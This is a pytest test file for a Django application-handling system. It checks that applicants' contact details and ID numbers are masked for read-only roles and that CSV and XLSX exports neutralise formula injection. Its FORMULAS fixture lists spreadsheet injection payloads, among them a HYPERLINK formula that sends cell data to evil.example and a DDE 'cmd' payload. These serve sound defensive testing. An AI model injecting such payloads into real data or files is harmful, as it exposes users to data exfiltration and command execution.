"""Applicants' personal data from the outside: contact details masked for read-only readers like
the ID number (pages, exports, API), and exports that a spreadsheet cannot turn into formulas."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import load_workbook

from gongkai.api.models import ApiToken
from gongkai.applications.choices import State
from gongkai.applications.personal import mask_address, mask_email, mask_phone

PHONE = "13912345678"
EMAIL = "wangwu@example.com"
ADDRESS = "北京市东城区景山前街4号院"


@pytest.fixture
def app(world):
    return world.application(
        State.IN_REVIEW,
        contact_phone=PHONE,
        contact_email=EMAIL,
        contact_address=ADDRESS,
        postal_code="100009",
    )


def _root():
    return get_user_model().objects.create_superuser("root", password="pw")


def _readers(world):
    return {
        "supervisor": world.supervisor,
        "administrator": world.administrator,
        "district_supervisor": world.district_supervisor,
        "superuser": _root(),
    }


def _body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig", "replace")


def test_it_masks_phone_email_and_address():
    assert mask_phone(PHONE) == "139****5678"
    assert mask_phone("010-6512 3456") == "010******3456"
    assert mask_email(EMAIL) == "w***@example.com"
    assert mask_address(ADDRESS) == "北京市东城区****"
    assert mask_phone("") == mask_email("") == mask_address("") == ""


def test_it_shows_contact_details_in_full_only_to_the_agencys_case_staff(client, world, app):
    for role in ("registrar", "handler", "approver"):
        client.force_login(world.users[role])
        body = _body(client.get(reverse("staff:application_detail", args=[app.pk])))
        assert PHONE in body and EMAIL in body and ADDRESS in body, role
    for name, user in _readers(world).items():
        client.force_login(user)
        body = _body(client.get(reverse("staff:application_detail", args=[app.pk])))
        assert PHONE not in body and EMAIL not in body and ADDRESS not in body, name
        assert (
            mask_phone(PHONE) in body
            and mask_email(EMAIL) in body
            and mask_address(ADDRESS) in body
        ), name


def test_it_masks_contact_details_in_the_api_for_read_only_callers(client, world, app):
    def get(user):
        token = ApiToken.issue(user, "t")[1]
        return client.get(
            f"/api/applications/{app.pk}", HTTP_AUTHORIZATION=f"Bearer {token}"
        ).json()

    full = get(world.handler)
    assert (full["contact_phone"], full["contact_email"], full["contact_address"]) == (
        PHONE,
        EMAIL,
        ADDRESS,
    )
    for name, user in _readers(world).items():
        data = get(user)
        assert data["contact_phone"] == mask_phone(PHONE), name
        assert data["contact_email"] == mask_email(EMAIL), name
        assert data["contact_address"] == mask_address(ADDRESS), name
        assert data["id_number"] != app.id_number, name


def test_it_masks_contact_details_in_exports_for_read_only_readers(client, world, app):
    client.force_login(world.handler)
    assert PHONE in _body(client.get(reverse("staff:application_export")))
    for name, user in _readers(world).items():
        client.force_login(user)
        body = _body(client.get(reverse("staff:application_export")))
        assert app.number in body and mask_phone(PHONE) in body and PHONE not in body, name
        assert app.id_number not in body, name
        book = load_workbook(
            io.BytesIO(
                b"".join(client.get(reverse("staff:application_export_xlsx")).streaming_content)
            )
        )
        values = {str(c.value) for row in book.active.iter_rows() for c in row}
        assert app.number in values and mask_phone(PHONE) in values and PHONE not in values, name


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


def test_it_neutralises_formulas_in_the_csv_export(client, world):
    apps = [world.application(State.REGISTERED, applicant_name=name) for name in FORMULAS]
    client.force_login(world.handler)
    rows = list(csv.reader(io.StringIO(_body(client.get(reverse("staff:application_export"))))))
    names = {row[0]: row[3] for row in rows[1:]}
    for app, name in zip(apps, FORMULAS, strict=True):
        assert names[app.number] == "'" + name


def test_it_stores_formula_like_text_as_text_in_the_xlsx_export(client, world):
    apps = [world.application(State.REGISTERED, applicant_name=name) for name in FORMULAS]
    client.force_login(world.handler)
    data = b"".join(client.get(reverse("staff:application_export_xlsx")).streaming_content)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(data)).active
    names = {row[0].value: row[3] for row in sheet.iter_rows(min_row=2)}
    for app, name in zip(apps, FORMULAS, strict=True):
        assert names[app.number].value == name and names[app.number].data_type == "s"
